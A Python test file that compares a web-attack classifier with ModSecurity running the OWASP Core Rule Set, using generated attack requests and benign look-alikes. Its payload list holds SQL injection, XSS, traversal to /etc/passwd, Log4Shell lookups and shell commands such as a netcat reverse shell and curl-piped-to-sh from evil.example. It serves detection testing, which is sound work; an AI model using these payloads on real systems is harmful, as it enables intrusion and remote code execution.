"""The CRS classifier against the real engine: the same requests go through Debian's Apache with
ModSecurity 2.9 running the vendored OWASP CRS (tests/modsecurity.py) and through
`secmon.core.classify.crs`, and the CRS rule ids that fire on each must agree.

The corpus: payloads hypothesis composes from attack fragments (the families CRS has that an access log
shows), encodings and evasions, placed in the path, the query, the User-Agent and the Referer; the
producer's attack traffic; and benign look-alikes from real sites. Agreement is |ids both fired| /
|ids either fired|, summed over the requests Apache let through, on the rules the classifier loads; the
ids ModSecurity fired on rules the classifier does not load are counted apart."""

from __future__ import annotations

import random
import time
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from modsecurity import ModSecurity, installed, versions

import secmon.core.classify
from secmon.core.classify.crs import CrsRuleSet
from secmon.core.classify.request import Request
from secmon.producer import attacks
from secmon.producer.site import build_population

VENDORED_CRS = Path(secmon.core.classify.__file__).with_name("owasp-crs")
MINIMUM_AGREEMENT = 0.95  # issue 39's goal, at paranoia level 1

pytestmark = [
    pytest.mark.tools,
    pytest.mark.slow,
    pytest.mark.skipif(
        not installed(), reason="apache2 with libapache2-mod-security2 is not installed: `make test` installs them"
    ),
]

# Disagreements kept, by (rule id, the side that fired alone), each with the reason it cannot be helped.
ACCEPTED: dict[tuple[str, str], str] = {
    # Probed: ModSecurity's @pmFromFile lfi-os-files.data finds etc/passwd in x/etc/passwd, not in etc/etc/passwd
    # (its Aho-Corasick loses a match that overlaps a failed longer one); normalizePathWin makes such repeats.
    ("930120", "secmon"): "ModSecurity 2.9's @pmFromFile misses a word after a failed overlapping prefix",
    ("930121", "secmon"): "ModSecurity 2.9's @pmFromFile misses a word after a failed overlapping prefix",
}
# Requests on which each accepted disagreement arises (930121 is a PL2 rule): the corpus keeps them in sight.
ACCEPTED_CASES = [
    Request("GET", "/download?file=etc/etc/passwd"),
    Request("GET", "/", user_agent="etc/etc/passwd"),
]

# --- the corpus ------------------------------------------------------------------------------------

FRAGMENTS = {
    "sqli": (
        "' or '1'='1",
        "1 union select null,version()--",
        "admin'--",
        "1; drop table users",
        "1' and sleep(5)#",
        "' having 1=1--",
        "1 order by 3",
        "benchmark(1000000,md5(1))",
        "@@version",
        "1' and extractvalue(1,concat(0x7e,user()))--",
        "'; waitfor delay '0:0:5'--",
        "select pg_sleep(5)",
        "1 from information_schema.tables",
        '" or ""="',
    ),
    "xss": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "<svg onload=alert(1)>",
        '"><iframe src=//evil.example>',
        "<body onload=prompt(1)>",
        "style=x:expression(alert(1))",
        '<a href="vbscript:msgbox(1)">',
    ),
    "traversal": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "....//....//etc/passwd",
        "/proc/self/environ",
        "file:///etc/passwd",
        ".htaccess",
        "WEB-INF/web.xml",
    ),
    "command": (
        ";cat /etc/passwd",
        "|id",
        "`id`",
        "$(whoami)",
        "&& wget http://evil.example/x.sh",
        "; nc -e /bin/sh 192.0.2.1 4444",
        "|| ping -c 10 127.0.0.1",
        "; curl http://evil.example|sh",
        "cmd.exe /c dir",
        "powershell -enc SQBFAFgA",
    ),
    "php": (
        "<?php system($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "phpinfo()",
        "eval($_POST[x])",
        "data://text/plain;base64,PD9waHA=",
        "expect://id",
        "file_get_contents('/etc/passwd')",
    ),
    "java": (
        "java.lang.Runtime.getRuntime().exec('id')",
        "class.module.classLoader.resources",
        "%{(#_='multipart/form-data')}",
        "java.io.ObjectInputStream",
        "rO0ABXNyABFqYXZh",
    ),
    "log4shell": (
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:rmi://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}",
    ),
    "remote file": (
        "http://evil.example/shell.txt?",
        "ftp://192.0.2.1/x.php",
        "https://192.0.2.1/backdoor.php",
    ),
    "node": (
        "__proto__[admin]=1",
        "constructor[prototype][isAdmin]=true",
        "require('child_process').exec('id')",
    ),
    "session and ldap": (
        ";jsessionid=0123456789abcdef",
        "PHPSESSID=attacker",
        "*)(uid=*))(|(uid=*",
    ),
    "benign": (
        "union station",
        "select a theme",
        "drop shipping",
        "o'reilly",
        "rock & roll",
        "C++ tutorial",
        "50% off",
        "me@example.com",
        "where to eat",
    ),
}
PREFIXES = ("", "1", "abc", "1'", '"')
SPACES = (" ", "  ", "\t", "\n", "/**/", "/*x*/", "+")
CASES = {
    "as written": str,
    "upper": str.upper,
    "lower": str.lower,
    "swapped": str.swapcase,
    "alternating": lambda text: "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text)),
}
ENCODINGS = {
    # Only what cannot stand in a request target: white space, '#' and '%'.
    "unsafe only": lambda text: quote(text, safe="".join(chr(c) for c in range(33, 127) if chr(c) not in "#%")),
    "browser": lambda text: quote(text, safe="/:;,'()*!$@=&+?"),
    "form": lambda text: quote_plus(text, safe="'()*,;:/"),
    "percent": lambda text: quote(text, safe=""),
    "double percent": lambda text: quote(quote(text, safe=""), safe=""),
    "IIS %u": lambda text: "".join(c if c.isalnum() else f"%u{ord(c):04x}" for c in text),
}
# Evasions spliced around an encoded payload: a NUL, overlong and full-width UTF-8, IIS's %u, HTML and C
# escapes, raw bytes beyond ASCII, and escapes that are not (a lone '%').
EVASIONS = ("%00", "%c0%ae", "%ef%bc%8f", "%u2215", "&#x3c;", "\\x3c", "/**/", "\u00e9", "\u20ac", "\u00a0", "%", "%%")
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
)


@st.composite
def payloads(draw) -> str:
    """One or two fragments (of any families) behind a prefix, in a case and with a white space of their own."""
    fragments = draw(st.lists(st.sampled_from(sorted(FRAGMENTS)), min_size=1, max_size=2))
    text = draw(st.sampled_from(PREFIXES)) + "".join(draw(st.sampled_from(FRAGMENTS[family])) for family in fragments)
    text = CASES[draw(st.sampled_from(sorted(CASES)))](text)
    return text.replace(" ", draw(st.sampled_from(SPACES)))


@st.composite
def attack_requests(draw) -> Request:
    payload = draw(payloads())
    evasions = [draw(st.lists(st.sampled_from(EVASIONS), max_size=2)) for _ in range(2)]
    before, after = ("".join(spliced) for spliced in evasions)
    encoded = before + ENCODINGS[draw(st.sampled_from(sorted(ENCODINGS)))](payload) + after
    header_value = before + " ".join(payload.split()) + after  # a header is one line
    place = draw(st.sampled_from(("query", "argument name", "path", "user-agent", "referer")))
    if place == "query":
        path = draw(st.sampled_from(("/", "/index.php", "/search", "/products")))
        name = draw(st.sampled_from(("q", "id", "file", "page", "cmd")))
        return Request("GET", f"{path}?{name}={encoded}", user_agent=BROWSER)
    if place == "argument name":
        return Request("GET", f"/?{encoded}=1", user_agent=BROWSER)
    if place == "path":
        return Request("GET", draw(st.sampled_from(("/", "/files/"))) + encoded, user_agent=BROWSER)
    if place == "user-agent":
        return Request("GET", "/", user_agent=draw(st.sampled_from(("", BROWSER + " "))) + header_value)
    referer = draw(st.sampled_from((header_value, f"https://www.example.com/search?q={encoded}")))
    return Request("GET", "/", user_agent=BROWSER, referer=referer)


def generated_requests(count: int) -> list[Request]:
    """`count` examples of attack_requests, the same on every run (duplicates dropped)."""
    drawn: list[Request] = []

    @settings(
        max_examples=count,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(attack_requests())
    def draw(request: Request) -> None:
        drawn.append(request)

    draw()
    return list(dict.fromkeys(drawn))


PER_SCENARIO = 40  # distinct requests from each of the producer's scenarios (floods repeat a few pages)


def producer_requests() -> list[Request]:
    """Every attack scenario of the producer, run three times, as its events log the requests."""
    kit = attacks.AttackKit(random.Random(39), build_population(random.Random(39), 50))
    requests: list[Request] = []
    for name in attacks.SCENARIOS:
        events = [event for _ in range(3) for event in attacks.attack(kit, name, 0)[1]]
        distinct = dict.fromkeys(Request(event.http_method, event.url, user_agent=event.user_agent) for event in events)
        requests += list(distinct)[:PER_SCENARIO]
    return requests


FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1"
)
# Normal requests that look like attacks to a keyword list: real sites' own URL shapes.
LOOK_ALIKES = [
    Request("GET", "/wp-login.php?action=register", user_agent=BROWSER),
    Request("GET", "/search?q=union+station", user_agent=FIREFOX),
    Request("GET", "/?s=select+a+theme", user_agent=BROWSER),
    Request("GET", "/?s=drop+down+menu", user_agent=SAFARI),
    Request("GET", "/search?q=o%27reilly+books", user_agent=FIREFOX),
    Request("GET", "/index.php?title=Special:Search&search=script+tag", user_agent=BROWSER),
    Request("GET", "/wp-admin/admin-ajax.php?action=heartbeat", user_agent=BROWSER),
    Request("GET", "/wp-content/themes/twentytwentyfour/style.css?ver=1.1", user_agent=BROWSER),
    Request("GET", "/index.php?route=product/search&search=select", user_agent=FIREFOX),
    Request("GET", "/phpmyadmin/index.php?route=/sql&db=shop&table=orders", user_agent=BROWSER),
    Request("GET", "/?_task=mail&_action=show&_uid=42&_mbox=INBOX", user_agent=FIREFOX),
    Request("GET", "/products?sort=price&order=desc&page=2", user_agent=SAFARI),
    Request("GET", "/api/v1/users?fields=id,name,email&limit=50", user_agent="okhttp/4.12.0"),
    Request("GET", "/blog/2024/05/where-to-eat-in-lisbon/", user_agent=SAFARI),
    Request("GET", "/static/js/app.min.js?v=3.2.1", user_agent=BROWSER, referer="https://shop.example/"),
    Request("GET", "/cart", user_agent=BROWSER, referer="https://www.google.com/search?q=union+select+shoes&hl=en"),
    Request("GET", "/", user_agent=FIREFOX, referer="https://duckduckgo.com/?q=how+to+drop+a+table+tennis+ball"),
    Request("GET", "/login?next=%2Faccount%2Forders", user_agent=BROWSER, referer="https://shop.example/cart?step=2"),
    Request("GET", "/search?q=C%2B%2B+tutorial", user_agent=FIREFOX),
    Request("GET", "/search?q=50%25+off", user_agent=BROWSER),
    Request("GET", "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale", user_agent=SAFARI),
    Request("GET", "/feed/?paged=2", user_agent="WordPress/6.5.3; https://blog.example"),
    Request(
        "GET", "/robots.txt", user_agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    ),
    Request(
        "GET", "/sitemap.xml", user_agent="Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
    ),
    Request("POST", "/wp-comments-post.php", user_agent=FIREFOX, referer="https://blog.example/2024/05/hello/"),
    Request("GET", "/?p=123&replytocom=45", user_agent=BROWSER),
    Request("GET", "/download?file=report-2024.pdf", user_agent=BROWSER),
    Request("HEAD", "/", user_agent="curl/8.5.0"),
]


# What DESIGN.md checked by hand (942100), and targets Apache refuses (a space; over its 8 kB request line):
# the harness's own check.
INJECTION = Request("GET", "/?q=%27%20or%20%271%27%3D%271")
SPACED = Request("GET", "/a b")
LONG = Request("GET", "/?q=" + "%27" * 4000)


def corpus() -> list[Request]:
    checks = [INJECTION, SPACED, LONG, *ACCEPTED_CASES]
    return list(dict.fromkeys([*checks, *generated_requests(300), *producer_requests(), *LOOK_ALIKES]))


# --- the comparison --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Disagreement:
    request: Request
    rule: str
    side: str  # the engine that fired the rule alone: "ModSecurity" or "secmon"

    def __str__(self) -> str:
        request = self.request
        where = f"{request.method} {request.url!r} user_agent={request.user_agent!r} referer={request.referer!r}"
        return f"{self.rule} fired by {self.side} alone: {where}"


@dataclass
class Comparison:
    """The two engines' firings on the requests Apache let through, at one paranoia level."""

    paranoia: int
    examined: int
    refused: int
    both: int  # ids of loaded rules both fired, summed over requests
    either: int  # ids of loaded rules either fired
    disagreements: list[Disagreement]
    fired_not_loaded: Counter  # rule id -> requests on which ModSecurity fired a rule secmon does not load
    not_loaded: int = 0  # the rules secmon does not load (at any paranoia level)

    @property
    def agreement(self) -> float:
        return self.both / self.either if self.either else 1.0

    def unexplained(self) -> list[Disagreement]:
        return [d for d in self.disagreements if (d.rule, d.side) not in ACCEPTED]

    def summary(self) -> str:
        by_rule = Counter((d.rule, d.side) for d in self.disagreements)
        lines = [
            f"PL{self.paranoia}: agreement {self.agreement:.3f} ({self.both}/{self.either} firings) on {self.examined}"
            f" requests ({self.refused} refused by Apache); {len(self.disagreements)} disagreements"
            f" ({len(self.unexplained())} unexplained); {self.not_loaded} rules not loaded",
            *(f"  {rule} by {side} alone: {count}" for (rule, side), count in sorted(by_rule.items())),
            "  fired by ModSecurity on rules secmon does not load: "
            + ", ".join(f"{rule} ({count})" for rule, count in sorted(self.fired_not_loaded.items())),
        ]
        return "\n".join(lines)


def compare(paranoia: int, requests: list[Request], verdicts: list[frozenset[str] | None]) -> Comparison:
    rules = CrsRuleSet.load(paranoia=paranoia)
    loaded = {rule.id for rule in rules.loaded}
    comparison = Comparison(paranoia, 0, 0, 0, 0, [], Counter(), len(rules.not_loaded))
    for request, theirs in zip(requests, verdicts):
        if theirs is None:
            comparison.refused += 1
            continue
        comparison.examined += 1
        ours = {rule.removeprefix("crs:") for rule in rules.match(request)}
        comparison.fired_not_loaded.update(theirs - loaded)
        theirs = theirs & loaded
        comparison.both += len(theirs & ours)
        comparison.either += len(theirs | ours)
        comparison.disagreements += [Disagreement(request, rule, "ModSecurity") for rule in sorted(theirs - ours)]
        comparison.disagreements += [Disagreement(request, rule, "secmon") for rule in sorted(ours - theirs)]
    return comparison


@pytest.fixture(scope="module")
def oracle(tmp_path_factory) -> tuple[list[Request], dict[int, list[frozenset[str] | None]]]:
    """The corpus, and what ModSecurity fired on each request at paranoia levels 1 and 2."""
    requests, verdicts = corpus(), {}
    for paranoia in (1, 2):
        started = time.monotonic()
        engine = ModSecurity(tmp_path_factory.mktemp(f"modsecurity-pl{paranoia}"), VENDORED_CRS, paranoia)
        try:
            verdicts[paranoia] = engine.fire(requests)
        finally:
            engine.stop()
        print(f"{versions()} at PL{paranoia}: {len(requests)} requests in {time.monotonic() - started:.1f} s")
    return requests, verdicts


def test_the_oracle_sees_what_apache_lets_through(oracle):
    """The harness itself: the request DESIGN.md checked by hand fires 942100, a target with a space or
    of 12 kB never reaches ModSecurity, and the corpus mostly does and makes many rules fire (else agreement
    would be measured on little)."""
    requests, verdicts = oracle
    fired = dict(zip(requests, verdicts[1]))
    assert "942100" in fired[INJECTION]
    assert fired[SPACED] is None and fired[LONG] is None
    examined = [fired for fired in verdicts[1] if fired is not None]
    assert len(examined) >= 0.75 * len(requests)
    assert sum(1 for fired in examined if fired) >= len(examined) / 3
    assert len(set().union(*examined)) >= 40  # distinct rules: the corpus reaches across CRS's families


def test_secmon_fires_the_crs_rules_modsecurity_fires_at_paranoia_level_1(oracle):
    requests, verdicts = oracle
    comparison = compare(1, requests, verdicts[1])
    print(comparison.summary())
    unexplained = "\n".join(str(d) for d in comparison.unexplained())
    assert comparison.agreement >= MINIMUM_AGREEMENT, f"{comparison.summary()}\n{unexplained}"


def test_paranoia_level_2_adds_rules_to_level_1(oracle):
    """PL2's agreement is reported, not asserted (issue 39 sets the goal at PL1); ModSecurity itself
    must fire at PL2 everything it fires at PL1, and more, or the paranoia setting did not take."""
    requests, verdicts = oracle
    print(compare(2, requests, verdicts[2]).summary())
    pairs = [(low, high) for low, high in zip(verdicts[1], verdicts[2]) if low is not None and high is not None]
    assert all(low <= high for low, high in pairs)
    assert any(low < high for low, high in pairs)


def test_every_accepted_disagreement_still_arises(oracle):
    """An accepted disagreement that no request shows any more is a stale excuse: take it out."""
    requests, verdicts = oracle
    comparisons = [compare(paranoia, requests, verdicts[paranoia]) for paranoia in (1, 2)]
    seen = {(d.rule, d.side) for comparison in comparisons for d in comparison.disagreements}
    assert set(ACCEPTED) <= seen, set(ACCEPTED) - seen
